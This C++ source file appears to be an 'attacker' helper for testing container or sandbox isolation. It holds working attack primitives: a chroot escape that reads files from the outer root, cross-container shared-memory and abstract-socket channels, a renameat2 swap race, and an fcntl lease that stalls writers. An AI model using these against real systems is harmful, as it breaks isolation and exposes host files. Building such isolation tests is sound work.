// What the attacks need and no shell can do. It runs inside containers, so it is static and on its
// own.
//
//   attacker read-shared KEY           print the System V shared memory KEY
//   attacker write-shared KEY TEXT     make it (0600) and put TEXT there
//   attacker escape PATH               leave a chroot, then print the file PATH of the outer root
//   attacker swap A B                  exchange the two names, over and over, until killed
//   attacker tell NAME TEXT            answer on the abstract socket @NAME with TEXT, until killed
//   attacker hear NAME                 print what the abstract socket @NAME answers
//   attacker tell-port PORT TEXT       the same on 127.0.0.1
//   attacker hear-port PORT
//   attacker overwrite PATH            open PATH for writing: exit status 0 if that works
//   attacker lease PATH                hold PATH by a lease (fcntl(2)), until killed: who opens it to
//                                      write waits for most of a minute

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr size_t kSize = 4096;

int fail(const char* call) {
  const int code = errno;
  std::fprintf(stderr, "%s: %s\n", call, std::strerror(code));
  return 1;
}

char* attach(const char* key, int flags) {
  const int id = ::shmget(static_cast<key_t>(std::atoi(key)), kSize, flags);
  if (id < 0) return nullptr;
  void* const memory = ::shmat(id, nullptr, 0);
  return memory == reinterpret_cast<void*>(-1) ? nullptr : static_cast<char*>(memory);
}

int write_shared(const char* key, const char* text) {
  char* const memory = attach(key, IPC_CREAT | IPC_EXCL | 0600);
  if (memory == nullptr) return fail("shmget");
  std::strncpy(memory, text, kSize - 1);
  return 0;
}

int read_shared(const char* key) {
  const char* const memory = attach(key, 0);
  if (memory == nullptr) return fail("shmget");
  std::puts(memory);
  return 0;
}

int print(const std::string& path) {
  std::FILE* const file = std::fopen(path.c_str(), "r");
  if (file == nullptr) return fail(path.c_str());
  for (int c = 0; (c = std::fgetc(file)) != EOF;) std::putchar(c);
  std::fclose(file);
  return 0;
}

/// A process's working directory may lie outside its root: chroot(2) moves the root only. From
/// there ".." leads up to the root of the mount namespace, since the walk never meets the process's
/// own root on its way.
int escape(const char* path) {
  if (::mkdir("/deeper", 0700) != 0 && errno != EEXIST) return fail("mkdir");
  if (::chdir("/") != 0) return fail("chdir");
  if (::chroot("/deeper") != 0) return fail("chroot");
  for (int i = 0; i < 64; ++i) {
    if (::chdir("..") != 0) return fail("chdir");
  }
  if (::chroot(".") != 0) return fail("chroot");
  return print(path);
}

int swap(const char* one, const char* other) {
  constexpr unsigned kExchange = 1U << 1U;  // RENAME_EXCHANGE
  for (;;) {
    if (::renameat2(AT_FDCWD, one, AT_FDCWD, other, kExchange) != 0) return fail("renameat2");
  }
}

/// An abstract name begins with a NUL byte and is no file: which processes find it is a matter of
/// the network namespace alone.
int abstract_socket(const char* name, sockaddr_un& address, socklen_t& size) {
  address = {};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(name));
  return ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

struct Place {
  sockaddr_storage address{};
  socklen_t size = 0;
  int fd = -1;
};

Place abstract(const char* name) {
  Place place;
  place.fd = abstract_socket(name, reinterpret_cast<sockaddr_un&>(place.address), place.size);
  return place;
}

Place loopback(const char* port) {
  Place place;
  auto& address = reinterpret_cast<sockaddr_in&>(place.address);
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(std::atoi(port)));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  place.size = sizeof address;
  place.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  return place;
}

int tell(Place place, const char* text) {
  if (::bind(place.fd, reinterpret_cast<sockaddr*>(&place.address), place.size) != 0)
    return fail("bind");
  if (::listen(place.fd, 8) != 0) return fail("listen");
  for (;;) {
    const int caller = ::accept(place.fd, nullptr, nullptr);
    if (caller < 0) return fail("accept");
    static_cast<void>(!::write(caller, text, std::strlen(text)));
    ::close(caller);
  }
}

int hear(Place place) {
  if (::connect(place.fd, reinterpret_cast<sockaddr*>(&place.address), place.size) != 0)
    return fail("connect");
  char text[256] = {};
  if (::read(place.fd, text, sizeof text - 1) < 0) return fail("read");
  std::puts(text);
  return 0;
}

int overwrite(const char* path) {
  const int fd = ::open(path, O_WRONLY);
  return fd < 0 ? fail(path) : 0;
}

int lease(const char* path) {
  const int fd = ::open(path, O_RDONLY);
  if (fd < 0 || ::signal(SIGIO, SIG_IGN) == SIG_ERR) return fail(path);
  if (::fcntl(fd, F_SETLEASE, F_RDLCK) != 0) return fail("fcntl(F_SETLEASE)");
  std::puts("held");
  std::fflush(stdout);
  for (;;) ::pause();
}

}  // namespace

int main(int argc, char** argv) {
  const std::string what = argc > 2 ? argv[1] : "";
  if (what == "read-shared") return read_shared(argv[2]);
  if (what == "escape") return escape(argv[2]);
  if (what == "overwrite") return overwrite(argv[2]);
  if (what == "lease") return lease(argv[2]);
  if (what == "hear") return hear(abstract(argv[2]));
  if (what == "hear-port") return hear(loopback(argv[2]));
  if (what == "tell" && argc > 3) return tell(abstract(argv[2]), argv[3]);
  if (what == "tell-port" && argc > 3) return tell(loopback(argv[2]), argv[3]);
  if (what == "write-shared" && argc > 3) return write_shared(argv[2], argv[3]);
  if (what == "swap" && argc > 3) return swap(argv[2], argv[3]);
  std::fprintf(stderr, "attacker: see attacker.cpp for what it can do\n");
  return 2;
}
